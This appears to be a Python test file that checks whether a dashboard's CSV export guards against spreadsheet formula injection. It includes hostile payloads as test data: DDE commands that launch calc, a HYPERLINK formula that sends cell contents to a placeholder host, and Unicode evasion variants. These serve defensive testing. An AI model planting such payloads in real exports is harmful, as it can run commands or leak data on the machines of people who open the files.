"""CSV exports are safe to open in a spreadsheet: text that starts like a formula stays text (CSV injection).

The alarms come from a real cache file through the same reads the export button uses (dashboard.data), so
text the service sent (a panel name, a description) is exported as it is stored, then guarded.
"""

from __future__ import annotations

import csv
import io
import time
import unicodedata
from datetime import UTC
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as hs

from core import read
from core.cache import writes
from core.cache.db import open_cache
from dashboard import data, export
from tests.support.seed_cache import ORGS, seed_cache

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode())))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_cell_gets_a_leading_quote(text: str) -> None:
    assert export.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Intrusion", "alarm", "", "1-2", "a=b", "'quoted", 42, -5, None])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert export.cell(value) == value


def test_the_alarms_export_of_a_real_cache_guards_every_text_column(tmp_path: Path) -> None:
    path = tmp_path / "cache.db"
    now = int(time.time() * 1000)
    seed_cache(path, now, activities=0)
    # Tuples in ACTIVITY_FIELDS order, as the sync writes them.
    rows = [
        (f"EV-{n}", 5001, ORGS[0][0], now - n * 1000, text, "violation", text, "alarm", None, None, None)
        for n, text in enumerate([*HOSTILE, "first line\rsecond line"])
    ]
    db = open_cache(path)
    with writes.write_transaction(db):
        writes.upsert_activities(db, "activities", rows)
    db.conn.close()

    payload = export.alarms_csv(data.alarm_chunks(str(path), read.AlarmFilter()), "", UTC)
    header, *body = cells(payload)
    assert header == list(export.ALARM_COLUMNS)
    exported = {(r[header.index("Violation")], r[header.index("Description")]) for r in body}
    # A carriage return inside a cell is quoted, not a row break: the cell reads back whole.
    assert exported == {("'" + text, "'" + text) for text in HOSTILE} | {("first line\rsecond line",) * 2}
    for row in body:
        assert not row[header.index("Time")].startswith("'")  # times and ids are not text: left alone
        assert row[header.index("Panel id")] == "5001"


def test_search_text_in_the_heading_cannot_open_a_cell() -> None:
    head = export.heading("samops alarms", 'text: a,=1+1,"b', None, 0, UTC)
    first, second = cells(head.encode())
    assert first == ['# samops alarms; filters: text: a,=1+1,"b'] and len(second) == 1


def test_the_audit_export_guards_text_and_leaves_numbers() -> None:
    frame = pd.DataFrame(
        {
            "When": pd.to_datetime([0, 1000], unit="ms", utc=True),
            "Command": ["=cmd|' /C calc'!A0", "/sam ack 12"],
            "Count": [-3, 4],
        }
    )
    header, *body = cells(export.table_csv(frame, "", UTC))
    assert header == ["When", "Command", "Count"]
    assert [row[1:] for row in body] == [["'=cmd|' /C calc'!A0", "-3"], ["/sam ack 12", "4"]]


# --- issue 26: every way a spreadsheet reads a formula, not only the first character -----------------------


# How a spreadsheet opening the CSV decides a text cell is a formula, written apart from the guard: it skips
# spaces of any width, layout, control and invisible characters, folds fullwidth forms (NFKC), and reads
# = + - @ (OWASP), | (LibreOffice's DDE) or a minus sign U+2212 as the start of one. OWASP also names a cell
# that starts with a tab, a carriage return or a line feed. A cell starting with a quote is text.
def spreadsheet_evaluates(text: str) -> bool:
    if text.startswith("'"):
        return False
    if text[:1] in ("\t", "\r", "\n"):
        return True
    for c in text:
        if c.isspace() or unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return unicodedata.normalize("NFKC", c)[:1] in "=+-@|" or c == "\u2212"
    return False


EVERY_WAY = [
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\n=1+1",
    "\r\n=1+1",
    ' \t =HYPERLINK("http://x.invalid")',
    "\uff1dcmd|' /C calc'!A0",  # fullwidth =
    "\uff0b1+1",  # fullwidth +
    "\uff201+1",  # fullwidth @
    "\uff0d1+1",  # fullwidth -
    "\ufe66 1",  # small =
    "\u22121+1",  # minus sign
    "|cmd /C calc",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", EVERY_WAY)
def test_a_formula_after_blanks_or_in_fullwidth_gets_a_leading_quote(text: str) -> None:
    assert spreadsheet_evaluates(text)
    assert export.cell(text) == "'" + text


BLANKS = [" ", "\u00a0", "\u3000", "\u200b", "\u2060", "\ufeff", "\t", "\n", "\r", "\x0b", "\u2028"]
STARTS = ["=", "+", "-", "@", "|", "\uff1d", "\uff0b", "\uff20", "\uff0d", "\ufe62", "\u2212", "'", "a", "1"]
cells_text = hs.one_of(
    hs.tuples(
        hs.lists(hs.sampled_from(BLANKS), max_size=4).map("".join),
        hs.sampled_from(STARTS),
        hs.text(max_size=20),
    ).map("".join),
    hs.text(max_size=30),
)


@settings(max_examples=500, deadline=None, derandomize=True, database=None)
@given(cells_text)
def test_fuzz_no_guarded_cell_is_evaluated_and_text_is_kept(text: str) -> None:
    guarded = export.cell(text)
    assert isinstance(guarded, str) and not spreadsheet_evaluates(guarded)
    assert guarded in (text, "'" + text)  # the text itself is kept whole


@pytest.fixture(scope="module")
def export_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / "cache.db"
    seed_cache(path, int(time.time() * 1000), activities=0)
    return path


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(hs.lists(cells_text, min_size=1, max_size=5))
def test_fuzz_the_alarms_export_of_a_real_cache_has_no_cell_a_spreadsheet_evaluates(
    export_cache: Path, texts: list[str]
) -> None:
    now = int(time.time() * 1000)
    rows = [
        (f"EV-{n}", 5001, ORGS[0][0], now - n, text, "violation", text, text, None, None, None)
        for n, text in enumerate(texts)
    ]
    db = open_cache(export_cache)
    with writes.write_transaction(db):
        db.execute("DELETE FROM activities")
        writes.upsert_activities(db, "activities", rows)
    db.conn.close()
    payload = export.alarms_csv(data.alarm_chunks(str(export_cache), read.AlarmFilter()), "", UTC)
    header, *body = cells(payload)
    assert header == list(export.ALARM_COLUMNS) and len(body) == len(texts)
    for row in body:
        for value in row:
            assert not spreadsheet_evaluates(value), (value, row)
